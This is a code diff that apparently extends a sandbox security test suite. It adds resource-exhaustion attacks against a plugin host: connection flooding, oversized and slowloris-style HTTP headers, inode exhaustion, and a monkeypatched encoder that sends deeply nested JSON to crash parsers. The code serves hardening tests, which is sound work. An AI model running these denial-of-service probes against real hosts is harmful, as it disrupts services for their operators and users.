@@ -18,11 +18,13 @@ import errno
 import glob
 import hashlib
 import http.client
+import json
 import os
 import shutil
 import socket
 import stat
 import subprocess
+import sys
 import threading
 import time
 from collections.abc import Callable
@@ -401,6 +403,177 @@ def host_token(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
     return _report(bool(accepted), f"accepted: {accepted}", statuses=statuses)
 
 
+def _host_socket(ctx: PluginContext) -> str:
+    return (ctx.host_url or f"unix://{SOCKET_DIR}/host.sock").removeprefix("unix://")
+
+
+def _peer_closed(sock: socket.socket) -> bool:
+    timeout = sock.gettimeout()
+    sock.setblocking(False)  # a socket with a timeout would wait for data despite MSG_DONTWAIT
+    try:
+        return sock.recv(1, socket.MSG_PEEK) == b""
+    except BlockingIOError:
+        return False
+    except ConnectionResetError:
+        return True
+    finally:
+        sock.settimeout(timeout)
+
+
+def hold_host_connections(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
+    """Open ``count`` idle connections to our host socket, send nothing, and count how many
+    the orchestrator keeps: at once (``settle_s``) and after ``hold_s`` more."""
+    count, path = int(args.get("count", 1500)), _host_socket(ctx)
+    socks: list[socket.socket] = []
+    refusal = None
+    started = time.monotonic()
+    try:
+        for _ in range(count):
+            try:
+                sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+            except OSError as exc:
+                refusal = _why(exc)
+                break
+            try:
+                sock.settimeout(10)
+                sock.connect(path)
+            except OSError as exc:
+                sock.close()
+                refusal = _why(exc)
+                break
+            socks.append(sock)
+        if refusal == "EMFILE":
+            # Give the plugin's own server room to answer its health probes meanwhile.
+            for sock in socks[-50:]:
+                sock.close()
+            del socks[-50:]
+        open_s = time.monotonic() - started
+        time.sleep(float(args.get("settle_s", 1.0)))
+        open_now = [sock for sock in socks if not _peer_closed(sock)]
+        request_status = None
+        if open_now:
+            conn = _UnixHTTPConnection(path)
+            conn.sock = open_now[0]
+            conn.request("GET", "/host/v1/storage/kv/escape-probe", headers=_bearer(ctx))
+            request_status = conn.getresponse().status
+        time.sleep(float(args.get("hold_s", 0)))
+        still_open = sum(not _peer_closed(sock) for sock in socks)
+    finally:
+        for sock in socks:
+            sock.close()
+    held = len(open_now)
+    return _report(
+        held > int(args.get("expect_at_most", 64)),
+        f"opened {len(socks)} ({refusal}); the host kept {held}, then {still_open}",
+        opened=len(socks),
+        open_s=round(open_s, 3),
+        refusal=refusal,
+        closed_at_once=len(socks) - held,
+        held=held,
+        request_on_held=request_status,
+        still_open=still_open,
+    )
+
+
+def _bearer(ctx: PluginContext) -> dict[str, str]:
+    return {"Authorization": f"Bearer {ctx.host_token}"} if ctx.host_token else {}
+
+
+def _send_head(ctx: PluginContext, lines: Callable[[], Any], read_s: float) -> dict[str, Any]:
+    """Send the request head that ``lines()`` yields from a thread, read the answer meanwhile:
+    its status, whether the host closed, the bytes sent, and how long it took."""
+    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    sock.connect(_host_socket(ctx))
+    sent, send_error = 0, None
+
+    def send() -> None:
+        nonlocal sent, send_error
+        try:
+            for line in lines():
+                sock.sendall(line)
+                sent += len(line)
+        except OSError as exc:
+            send_error = _why(exc)
+
+    started = time.monotonic()
+    sender = threading.Thread(target=send, daemon=True)
+    sender.start()
+    answer, closed, read_error = b"", False, None
+    sock.settimeout(read_s)
+    try:
+        while True:
+            chunk = sock.recv(65536)
+            if not chunk:
+                closed = True
+                break
+            answer += chunk
+    except ConnectionResetError:
+        closed = True
+    except OSError as exc:
+        read_error = _why(exc)
+    took = time.monotonic() - started
+    sock.close()
+    sender.join(5)
+    status_line = answer.split(b"\r\n", 1)[0].decode("latin-1")
+    status = int(status_line.split()[1]) if status_line.startswith("HTTP/") else None
+    return {
+        "status": status,
+        "closed": closed,
+        "sent": sent,
+        "send_error": send_error,
+        "read_error": read_error,
+        "took_s": round(took, 3),
+    }
+
+
+def huge_host_header(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
+    """Stream ``mib`` MiB of one request header to our host socket as fast as it is read."""
+    total = int(float(args.get("mib", 1)) * MIB)
+
+    def lines() -> Any:
+        yield b"GET /host/v1/storage/kv/escape-probe HTTP/1.1\r\nHost: host\r\nX-Pad: "
+        for _ in range(total // (16 * 1024)):
+            yield b"a" * (16 * 1024)
+
+    seen = _send_head(ctx, lines, float(args.get("read_s", 15)))
+    return _report(seen["sent"] >= total, f"sent {seen['sent']} bytes of header", **seen)
+
+
+def slow_host_header(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
+    """Send a request head to our host socket one header line every ``every_s`` seconds."""
+    every_s, max_s = float(args.get("every_s", 0.5)), float(args.get("max_s", 20))
+
+    def lines() -> Any:
+        yield b"GET /host/v1/storage/kv/escape-probe HTTP/1.1\r\nHost: host\r\n"
+        for i in range(int(max_s / every_s)):
+            time.sleep(every_s)
+            yield b"X-Slow-%d: 1\r\n" % i
+
+    seen = _send_head(ctx, lines, max_s + 5)
+    detail = f"host answered {seen['status']} after {seen['took_s']}s"
+    return _report(not seen["closed"], detail, **seen)
+
+
+def many_files(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
+    """Create up to ``count`` empty files in each folder: inodes cost the host memory."""
+    count = int(args.get("count", 10_000))
+    outcome = {}
+    for folder in args.get("folders", ["/tmp", SOCKET_DIR]):
+        created, refusal = 0, None
+        try:
+            for i in range(count):
+                os.close(os.open(f"{folder}/escape-{i}", os.O_WRONLY | os.O_CREAT, 0o600))
+                created += 1
+        except OSError as exc:
+            refusal = _why(exc)
+        finally:
+            for i in range(created):
+                os.unlink(f"{folder}/escape-{i}")
+        outcome[folder] = {"created": created, "refusal": refusal}
+    full = [folder for folder, seen in outcome.items() if seen["created"] >= count]
+    return _report(bool(full), f"{count} files in {full}" if full else "refused", **outcome)
+
+
 def _uids_while_running(argv: list[str]) -> str:
     """Start a setuid program that waits for a password and read its uids meanwhile."""
     proc = subprocess.Popen(
@@ -573,6 +746,46 @@ def redirect_socket(args: dict[str, Any], ctx: PluginContext) -> dict[str, Any]:
     return _report(False, f"{PLUGIN_SOCKET} now points at {target}")
 
 
+class _RawAnswer:
+    """An output whose JSON text goes on the wire exactly as given (see ``deep_answer``)."""
+
+    def __init__(self, text: bytes) -> None:
+        self.text = text
+
+
+def _passing_raw_answers(encode: Callable[[Any], bytes]) -> Callable[[Any], bytes]:
+    def dumps(obj: Any) -> bytes:
+        output = obj.get("output") if isinstance(obj, dict) else None
+        if isinstance(output, _RawAnswer):
+            return b'{"output":' + output.text + b"}"
+        return encode(obj)
+
+    dumps.raw_answers = True  # type: ignore[attr-defined]
+    return dumps
+
+
+def deep_answer(args: dict[str, Any], ctx: PluginContext) -> Any:
+    """Answer ``{"output": [[[...]]]}`` nested ``depth`` levels (default 100,000). No JSON
+    encoder writes that, so the SDK's encoder is wrapped to send a raw answer's bytes as they
+    are; every other answer is encoded as before. The runtime runs as ``__main__``
+    (``python -m summit_sdk.runtime``), a module apart from ``summit_sdk.runtime``.
+
+    With ``only`` (a plugin id) the other copies of this plugin answer a plain report, so one
+    fan-out can hold the deep answer and a sound one."""
+    manifest = os.environ.get("SUMMIT_PLUGIN_MANIFEST") or "/summit/plugin.json"
+    with open(manifest, encoding="utf-8") as fh:
+        own_id = json.load(fh)["id"]
+    if args.get("only") not in (None, own_id):
+        return _report(False, f"{own_id} answers plainly", plugin=own_id)
+    for name in ("__main__", "summit_sdk.runtime"):
+        module = sys.modules.get(name)
+        encode = getattr(module, "_dumps", None)
+        if encode is not None and not getattr(encode, "raw_answers", False):
+            module._dumps = _passing_raw_answers(encode)  # type: ignore[union-attr]
+    depth = int(args.get("depth", 100_000))
+    return _RawAnswer(b"[" * depth + b"]" * depth)
+
+
 ATTACKS: dict[str, Callable[[dict[str, Any], PluginContext], dict[str, Any]]] = {
     f.__name__: f
     for f in (
@@ -590,11 +803,16 @@ ATTACKS: dict[str, Callable[[dict[str, Any], PluginContext], dict[str, Any]]] = 
         dns,
         other_plugin,
         host_token,
+        hold_host_connections,
+        huge_host_header,
+        slow_host_header,
+        many_files,
         setuid,
         privileges,
         log_flood,
         hijack_socket,
         redirect_socket,
+        deep_answer,
     )
 }
 
